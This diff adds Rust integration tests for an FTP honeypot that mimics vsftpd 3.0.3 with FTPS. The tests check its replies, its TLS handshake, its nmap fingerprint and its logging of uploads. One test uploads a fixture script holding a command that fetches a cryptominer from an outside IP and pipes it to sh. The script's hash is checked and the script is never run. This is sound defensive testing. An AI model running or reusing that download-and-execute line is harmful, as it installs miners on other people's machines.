@@ -930,3 +930,460 @@ async fn replies_match_a_real_vsftpd_line_by_line() {
     assert_eq!(real.len(), sensor.len());
     harness.stop().await;
 }
+
+/// A control-connection client in Python (`ssl`): sends the commands of stdin (a JSON
+/// list) one at a time, upgrading to TLS after a `234`, and prints every reply as JSON
+/// (`[command, [lines]]`); a closed connection ends it (`[command, null]`).
+const FTPS_CLIENT: &str = r##"
+import json, socket, ssl, sys
+host, port = sys.argv[1], int(sys.argv[2])
+commands = json.load(sys.stdin)
+sock = socket.create_connection((host, port), timeout=20)
+stream = sock.makefile("rb")
+def reply():
+    lines = []
+    while True:
+        line = stream.readline()
+        if not line:
+            return None
+        assert line.endswith(b"\r\n"), line
+        line = line[:-2].decode()
+        lines.append(line)
+        if len(lines) == 1 and line[3:4] == " ":
+            return lines
+        if len(lines) > 1 and line[3:4] == " " and line[:3] == lines[0][:3]:
+            return lines
+out = [["", reply()]]
+context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
+context.check_hostname = False
+context.verify_mode = ssl.CERT_NONE
+for command in commands:
+    sock.sendall(command.encode() + b"\r\n")
+    lines = reply()
+    out.append([command, lines])
+    if lines is None:
+        break
+    if lines[0].startswith("234 "):
+        sock = context.wrap_socket(sock)
+        stream = sock.makefile("rb")
+        out.append(["#tls", [sock.version(), sock.cipher()[0], str(sock.selected_alpn_protocol())]])
+print(json.dumps(out))
+"##;
+
+/// The `(command, reply lines)` pairs of one section of a capture (from the line that
+/// starts with `start` to the next `# ---` or `####` line).
+fn capture_section(file: &str, start: &str) -> Vec<(String, Vec<String>)> {
+    let text = captured(file);
+    let mut pairs: Vec<(String, Vec<String>)> = Vec::new();
+    let mut inside = false;
+    for line in text.lines() {
+        if line.starts_with(start) {
+            inside = true;
+            continue;
+        }
+        if !inside {
+            continue;
+        }
+        if line.starts_with("# ---") || line.starts_with("####") {
+            break;
+        }
+        if let Some(command) = line.strip_prefix("C: ") {
+            pairs.push((command.to_owned(), Vec::new()));
+        } else if let Some(reply) = line.strip_prefix("S: ") {
+            match pairs.last_mut() {
+                Some((_, lines)) => lines.push(reply.to_owned()),
+                None => pairs.push((String::new(), vec![reply.to_owned()])),
+            }
+        }
+    }
+    pairs
+}
+
+/// Replays a capture section through [`FTPS_CLIENT`] as `root` (the capture's local user
+/// is `ftptest`) and compares every reply, with the lines that name the client, the user
+/// or the client count masked.
+async fn replay_ftps_section(harness: &Harness, start: &str) {
+    let expected: Vec<(String, Vec<String>)> = capture_section("tls.txt", start)
+        .into_iter()
+        .map(|(command, lines)| {
+            let command = match command.as_str() {
+                "USER ftptest" => "USER root".to_owned(),
+                "PASS ftptest" => "PASS hunter2".to_owned(),
+                _ => command,
+            };
+            (command, lines)
+        })
+        .collect();
+    assert!(expected.len() > 5, "the capture has the section {start:?}");
+    let commands: Vec<&str> = expected
+        .iter()
+        .skip(1)
+        .map(|(command, _)| command.as_str())
+        .collect();
+    let mut python = std::process::Command::new("python3");
+    python
+        .args([
+            "-c",
+            FTPS_CLIENT,
+            "127.0.0.1",
+            &harness.addr.port().to_string(),
+        ])
+        .stdin(std::process::Stdio::piped())
+        .stdout(std::process::Stdio::piped())
+        .stderr(std::process::Stdio::piped());
+    let input = serde_json::to_vec(&commands).unwrap();
+    let output = tokio::task::spawn_blocking(move || {
+        use std::io::Write as _;
+        let mut child = python.spawn().unwrap();
+        child.stdin.take().unwrap().write_all(&input).unwrap();
+        child.wait_with_output().unwrap()
+    })
+    .await
+    .unwrap();
+    assert!(
+        output.status.success(),
+        "{}",
+        String::from_utf8_lossy(&output.stderr)
+    );
+    let answered: Vec<(String, Option<Vec<String>>)> =
+        serde_json::from_slice(&output.stdout).unwrap();
+    let mask = |lines: &[String]| -> Vec<String> {
+        lines
+            .iter()
+            .map(|l| {
+                if l.starts_with("     Connected to ")
+                    || l.starts_with("     Logged in as ")
+                    || l.starts_with("     At session startup, client count was ")
+                {
+                    l.rsplit_once(' ')
+                        .map_or(l.clone(), |(head, _)| head.to_owned())
+                } else {
+                    l.clone()
+                }
+            })
+            .collect()
+    };
+    let replies: Vec<(String, Vec<String>)> = answered
+        .into_iter()
+        .filter(|(command, _)| command != "#tls")
+        .map(|(command, lines)| (command, lines.unwrap_or_default()))
+        .collect();
+    assert_eq!(replies.len(), expected.len(), "{replies:#?}");
+    for ((command, got), (_, want)) in replies.iter().zip(&expected) {
+        assert_eq!(mask(got), mask(want), "the reply to {command:?}");
+    }
+}
+
+/// Explicit FTPS as the real vsftpd with `ssl_enable=YES` answers it
+/// (`testdata/ftp/vsftpd-3.0.3/tls.txt`): FEAT, every AUTH, PBSZ and PROT variant and
+/// CCC before TLS, over TLS before and after a login, and in plain text after one;
+/// STAT's lines about encryption.
+#[tokio::test]
+async fn ftps_replies_match_a_real_vsftpd_in_every_state() {
+    if !python_ftplib_available() {
+        return tool_missing("python3");
+    }
+    let harness = Harness::start(|c| c.tls = Some(Default::default())).await;
+    for section in [
+        "# --- plaintext, before login ---",
+        "# --- TLS up, not logged in ---",
+        "# --- plaintext login (allowed",
+        "# --- plaintext anonymous login, then AUTH TLS",
+        "# --- fresh connection: AUTH SSL ---",
+        "# --- fresh connection: AUTH tls-p ---",
+    ] {
+        replay_ftps_section(&harness, section).await;
+    }
+    let events = harness.wait_closed(6).await;
+    // The TLS clients' hellos are fingerprinted; AUTH is a command like any other.
+    assert!(events.iter().any(|e| matches!(
+        &e.kind,
+        EventKind::ClientFingerprint { method, fingerprint, .. }
+            if method == "ja4" && fingerprint.starts_with("t13")
+    )));
+    assert!(events.iter().any(|e| matches!(
+        &e.kind,
+        EventKind::CommandInput { command } if command == "AUTH TLS"
+    )));
+    harness.stop().await;
+}
+
+/// Without `tls` the sensor is the stock vsftpd: FEAT lists no AUTH, and AUTH is not a
+/// command before a login.
+#[tokio::test]
+async fn without_tls_auth_is_refused_as_by_a_stock_vsftpd() {
+    let harness = Harness::start(|_| {}).await;
+    let mut control = Control::connect(harness.addr).await;
+    assert_eq!(control.reply().await, ["220 (vsFTPd 3.0.3)"]);
+    assert!(
+        !control
+            .send("FEAT")
+            .await
+            .iter()
+            .any(|l| l.contains("AUTH"))
+    );
+    assert_eq!(
+        control.send("AUTH TLS").await,
+        ["530 Please login with USER and PASS."]
+    );
+    harness.stop().await;
+}
+
+/// A client that answers `234` with plain text gets OpenSSL's error as vsftpd writes
+/// it, and the close.
+#[tokio::test]
+async fn plain_text_instead_of_a_client_hello_gets_vsftpds_oops_and_the_close() {
+    let harness = Harness::start(|c| c.tls = Some(Default::default())).await;
+    let mut control = Control::connect(harness.addr).await;
+    assert_eq!(control.reply().await, ["220 (vsFTPd 3.0.3)"]);
+    assert_eq!(
+        control.send("AUTH TLS").await,
+        ["234 Proceed with negotiation."]
+    );
+    assert_eq!(
+        control.send("USER anonymous").await,
+        ["500 OOPS: error:0A00010B:SSL routines::wrong version number"]
+    );
+    assert!(control.closed().await);
+    harness.stop().await;
+}
+
+/// Python's `FTP_TLS` does not resume the control connection's TLS session on its data
+/// connections: the real vsftpd (`require_ssl_reuse=YES`) and the sensor both refuse
+/// with `522` and end the session; with the usual subclass that passes the session on,
+/// as lftp and curl (below) do, the listing comes.
+#[tokio::test]
+async fn a_data_connection_without_session_reuse_gets_522_and_the_session_ends() {
+    if !python_ftplib_available() {
+        return tool_missing("python3");
+    }
+    let harness = Harness::start(|c| c.tls = Some(Default::default())).await;
+    let script = r##"
+import ftplib, ssl, sys
+context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
+context.check_hostname = False
+context.verify_mode = ssl.CERT_NONE
+ftp = ftplib.FTP_TLS(context=context)
+ftp.connect(sys.argv[1], int(sys.argv[2]), timeout=20)
+print("AUTH", ftp.auth())
+print("LOGIN", ftp.login("root", "hunter2"))
+print("PROT", ftp.prot_p())
+try:
+    ftp.nlst()
+except ftplib.all_errors as e:
+    print("NLST", e)
+try:
+    ftp.voidcmd("NOOP")
+    print("NOOP answered")
+except (EOFError, OSError, ftplib.Error) as e:
+    print("CLOSED", type(e).__name__)
+
+# The usual fix: the data connection resumes the control connection's session.
+class Reusing(ftplib.FTP_TLS):
+    def ntransfercmd(self, cmd, rest=None):
+        conn, size = ftplib.FTP.ntransfercmd(self, cmd, rest)
+        if self._prot_p:
+            conn = self.context.wrap_socket(conn, server_hostname=self.host,
+                                            session=self.sock.session)
+        return conn, size
+ftp = Reusing(context=context)
+ftp.connect(sys.argv[1], int(sys.argv[2]), timeout=20)
+ftp.auth()
+ftp.login("root", "hunter2")
+ftp.prot_p()
+print("REUSED NLST", sorted(ftp.nlst()))
+print("QUIT", ftp.quit())
+"##;
+    let mut python = std::process::Command::new("python3");
+    python.args(["-c", script, "127.0.0.1", &harness.addr.port().to_string()]);
+    let output = run_client(python).await;
+    let stdout = String::from_utf8_lossy(&output.stdout).into_owned();
+    assert!(
+        stdout.contains("AUTH 234 Proceed with negotiation."),
+        "{stdout}"
+    );
+    assert!(stdout.contains("PROT 200 PROT now Private."), "{stdout}");
+    assert!(
+        stdout.contains("NLST 522 SSL connection failed: session reuse required"),
+        "{stdout}\n{}",
+        String::from_utf8_lossy(&output.stderr)
+    );
+    assert!(stdout.contains("CLOSED"), "{stdout}");
+    assert!(stdout.contains("REUSED NLST ["), "{stdout}");
+    assert!(stdout.contains("QUIT 221 Goodbye."), "{stdout}");
+    harness.stop().await;
+}
+
+/// lftp as it comes: it sees `AUTH TLS` in FEAT and upgrades, then refuses the
+/// self-signed certificate exactly as against the real vsftpd; told not to verify, it
+/// logs in, protects the data, puts, lists and gets over TLS.
+#[tokio::test]
+async fn lftp_upgrades_to_tls_and_puts_lists_and_gets() {
+    if std::process::Command::new("lftp")
+        .arg("--version")
+        .output()
+        .is_err()
+    {
+        return tool_missing("lftp");
+    }
+    let harness = Harness::start(|c| c.tls = Some(Default::default())).await;
+    let work = tempfile::tempdir().unwrap();
+    let payload = b"#!/bin/sh\ncurl -s http://198.51.100.7/xmrig | sh\n";
+    std::fs::write(work.path().join("miner.sh"), payload).unwrap();
+    let lftp = |settings: &str| {
+        let commands = format!(
+            "set net:max-retries 1; set net:timeout 10; {settings} \
+             open -u root,hunter2 -p {} 127.0.0.1; put miner.sh; ls; get miner.sh -o back.sh; bye",
+            harness.addr.port()
+        );
+        let mut lftp = std::process::Command::new("lftp");
+        lftp.args(["-c", &commands]).current_dir(work.path());
+        lftp
+    };
+    let refused = run_client(lftp("")).await;
+    assert!(!refused.status.success());
+    assert!(
+        String::from_utf8_lossy(&refused.stderr)
+            .contains("Certificate verification: The certificate is NOT trusted"),
+        "{}",
+        String::from_utf8_lossy(&refused.stderr)
+    );
+    let output = run_client(lftp("set ssl:verify-certificate no;")).await;
+    let stdout = String::from_utf8_lossy(&output.stdout).into_owned();
+    assert!(
+        output.status.success(),
+        "lftp failed: {stdout}\n{}",
+        String::from_utf8_lossy(&output.stderr)
+    );
+    assert!(
+        stdout.contains(" miner.sh"),
+        "ls shows the upload: {stdout}"
+    );
+    assert_eq!(std::fs::read(work.path().join("back.sh")).unwrap(), payload);
+    let events = harness.wait_closed(2).await;
+    let commands: Vec<&str> = events
+        .iter()
+        .filter_map(|e| match &e.kind {
+            EventKind::CommandInput { command } => Some(command.as_str()),
+            _ => None,
+        })
+        .collect();
+    for expected in ["AUTH TLS", "PBSZ 0", "PROT P"] {
+        assert!(commands.contains(&expected), "{commands:?}");
+    }
+    let digest = format!("{:x}", Sha256::digest(payload));
+    assert!(events.iter().any(|e| matches!(
+        &e.kind,
+        EventKind::FileUpload { sha256: Some(sha), .. } if *sha == digest
+    )));
+    harness.stop().await;
+}
+
+/// curl's explicit FTPS (`--ssl-reqd`, which sends `AUTH SSL`): an upload, captured by
+/// its SHA-256, and a listing, over TLS data connections that resume the control
+/// session.
+#[tokio::test]
+async fn curl_ssl_reqd_uploads_and_lists() {
+    if !hpti_core::testing::require_tool("curl") {
+        return;
+    }
+    let harness = Harness::start(|c| c.tls = Some(Default::default())).await;
+    let work = tempfile::tempdir().unwrap();
+    std::fs::write(work.path().join("x.sh"), b"echo pwned\n").unwrap();
+    let url = format!("ftp://root:hunter2@127.0.0.1:{}/", harness.addr.port());
+    let mut upload = std::process::Command::new("curl");
+    upload
+        .args(["-sS", "--ssl-reqd", "-k", "-T", "x.sh", &url])
+        .current_dir(work.path());
+    let output = run_client(upload).await;
+    assert!(
+        output.status.success(),
+        "{}",
+        String::from_utf8_lossy(&output.stderr)
+    );
+    let mut list = std::process::Command::new("curl");
+    // `%2F`: an absolute path (curl walks the others from the login directory).
+    list.args(["-sS", "--ssl-reqd", "-k", &format!("{url}%2Fetc/")]);
+    let output = run_client(list).await;
+    assert!(
+        output.status.success(),
+        "{}",
+        String::from_utf8_lossy(&output.stderr)
+    );
+    let listing = String::from_utf8_lossy(&output.stdout).into_owned();
+    assert!(listing.lines().any(|l| l.ends_with(" passwd")), "{listing}");
+    let events = harness.wait_closed(2).await;
+    let digest = format!("{:x}", Sha256::digest(b"echo pwned\n"));
+    assert!(events.iter().any(|e| matches!(
+        &e.kind,
+        EventKind::FileUpload { filename, sha256: Some(sha), .. }
+            if *sha == digest && filename == "/root/x.sh"
+    )));
+    assert!(events.iter().any(|e| matches!(
+        &e.kind,
+        EventKind::CommandInput { command } if command == "AUTH SSL"
+    )));
+    harness.stop().await;
+}
+
+/// The handshake as vsftpd's OpenSSL makes it: only P-256 (a client offering X25519
+/// first is asked again), no ALPN; TLS 1.1 is refused.
+#[tokio::test]
+async fn openssl_sees_vsftpds_handshake() {
+    if !hpti_core::testing::require_tool("openssl") {
+        return;
+    }
+    let harness = Harness::start(|c| c.tls = Some(Default::default())).await;
+    let connect = format!("127.0.0.1:{}", harness.addr.port());
+    let s_client = |extra: &[&str]| {
+        let mut openssl = std::process::Command::new("openssl");
+        openssl
+            .args(["s_client", "-starttls", "ftp", "-connect", &connect])
+            .args(extra)
+            .stdin(std::process::Stdio::null());
+        openssl
+    };
+    let output = run_client(s_client(&[])).await;
+    let text = String::from_utf8_lossy(&output.stdout).into_owned();
+    assert!(
+        text.contains("Server Temp Key: ECDH, prime256v1, 256 bits"),
+        "{text}"
+    );
+    assert!(text.contains("No ALPN negotiated"), "{text}");
+    assert!(text.contains("TLSv1.3"), "{text}");
+    let output = run_client(s_client(&["-tls1_1"])).await;
+    assert!(!output.status.success());
+    harness.stop().await;
+}
+
+/// `nmap -sV -sC` on the FTPS sensor: still `vsftpd 3.0.3`, and the TLS scripts see the
+/// certificate as on the real one (`testdata/ftp/vsftpd-3.0.3/nmap-tls.txt`).
+#[tokio::test]
+async fn nmap_names_the_ftps_sensor_vsftpd_and_reads_its_certificate() {
+    if !hpti_core::testing::require_tool("nmap") {
+        return;
+    }
+    let harness = Harness::start(|c| c.tls = Some(Default::default())).await;
+    let mut nmap = std::process::Command::new("nmap");
+    nmap.args([
+        "-sV",
+        "-sC",
+        "-Pn",
+        "-p",
+        &harness.addr.port().to_string(),
+        "127.0.0.1",
+    ]);
+    let output = run_client(nmap).await;
+    let text = String::from_utf8_lossy(&output.stdout).into_owned();
+    assert!(
+        text.lines()
+            .any(|l| l.contains("/tcp") && l.contains(" ftp ") && l.ends_with("vsftpd 3.0.3")),
+        "{text}"
+    );
+    assert!(text.contains("| ssl-cert: Subject: commonName="), "{text}");
+    assert!(
+        text.contains("ftp-anon: Anonymous FTP login allowed"),
+        "{text}"
+    );
+    harness.stop().await;
+}
